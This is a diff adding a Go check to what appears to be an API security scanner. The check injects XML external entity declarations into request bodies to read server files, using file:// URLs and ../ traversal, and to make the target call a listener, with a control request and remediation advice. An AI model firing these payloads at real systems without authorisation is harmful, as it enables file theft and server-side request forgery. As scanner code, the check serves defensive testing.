@@ -1,0 +1,85 @@
+package check
+
+import (
+	"context"
+	"fmt"
+	"net/http"
+	"regexp"
+	"strings"
+	"time"
+
+	"github.com/crenel-project/crenel/internal/scan/graph"
+	"github.com/crenel-project/crenel/internal/scan/scenario"
+)
+
+var _ = register(&Check{
+	ID: "xxe", Title: "An XML body reads files of the server, or makes it call out",
+	OWASP: "API8:2023", CWE: "CWE-611", WSTG: "WSTG-INPV-07",
+	CVSS:  "CVSS:4.0/AV:N/AC:L/AT:N/PR:L/UI:N/VC:H/VI:N/VA:L/SC:L/SI:N/SA:N",
+	About: "Declares an entity in front of an XML body that works, for a file that every system has and for the listener's address, and puts it into a text of the body.",
+	Proof: "The answer holds what the file begins with, or the target called the listener. Controls: the same body with an entity for a file that is not there brings nothing.",
+	Fix:   "Turn document types off in the XML parser (CWE-611; OWASP XXE prevention), and refuse bodies that have one.",
+	Mode:  Default, Dirty: true,
+	Run: xxe,
+})
+
+var reRoot = regexp.MustCompile(`<([A-Za-z_][\w.:-]*)`)
+
+func xxe(ctx context.Context, p *Probe) error {
+	return Each(ctx, p, p.Ops(), func(ctx context.Context, op *graph.Op) error {
+		if op.Body == nil || op.Method == http.MethodGet || op.Has(graph.Hazard) {
+			return nil
+		}
+		all, err := p.slotsOf(ctx, op)
+		if err != nil || len(all) == 0 || !strings.Contains(all[0].call.Media, "xml") {
+			return err
+		}
+		for _, s := range all {
+			if s.in.In != "body" {
+				continue
+			}
+			if done, err := p.entity(ctx, s); err != nil || done {
+				return err
+			}
+		}
+		return nil
+	})
+}
+
+// withEntity is a call whose body declares an entity and holds it in one text.
+func (p *Probe) withEntity(s *slot, id string, part scenario.Part, note, system string, e ...scenario.Expect) (scenario.Step, error) {
+	bind := s.call.Renew(id)
+	bind[s.in.Where()] = `"ENTITYHERE"`
+	st, err := p.World.Step(s.call, bind)
+	if err != nil {
+		return st, err
+	}
+	root := reRoot.FindStringSubmatchIndex(st.Send.Body)
+	if root == nil || !strings.Contains(st.Send.Body, "ENTITYHERE") {
+		return st, fmt.Errorf("%s: the body holds no text to put an entity into", s.op.ID)
+	}
+	name := st.Send.Body[root[2]:root[3]]
+	doctype := fmt.Sprintf(`<!DOCTYPE %s [<!ENTITY crenel SYSTEM "%s">]>`, name, system)
+	st.Send.Body = strings.ReplaceAll(st.Send.Body[:root[0]]+doctype+st.Send.Body[root[0]:], "ENTITYHERE", "&crenel;")
+	st.ID, st.Part, st.Note, st.Expect = id, part, note, e
+	return st, nil
+}
+
+func (p *Probe) entity(ctx context.Context, s *slot) (bool, error) {
+	for _, f := range systemFiles {
+		for _, form := range []string{"file:///%s", "/%s", "../../../../../../%s"} {
+			var l steps
+			l.add(p.withEntity(s, "wrong", scenario.Control, "an entity for a file that is not there brings nothing", strings.ReplaceAll(form, "%s", f.wrong), scenario.Expect{Status: "any"}))
+			l.add(p.withEntity(s, "attack", scenario.Attack, "one for a file of the system brings the file", strings.ReplaceAll(form, "%s", f.path), scenario.Expect{Matches: f.holds, Unlike: "wrong"}))
+			if ok, err := p.injected(ctx, s, "XML external entity", "An entity that the body declares is read from the server's files.", &l); err != nil || ok {
+				return ok, err
+			}
+		}
+	}
+	if p.Listener == nil {
+		return false, nil
+	}
+	var l steps
+	l.add(p.withEntity(s, "attack", scenario.Attack, "an entity at the listener's address is fetched", "${listener.call}", scenario.Expect{Status: "any"}, scenario.Expect{Called: "call", By: time.Second}))
+	return p.injected(ctx, s, "XML external entity", "An entity that the body declares makes the server call an address that the caller names.", &l)
+}
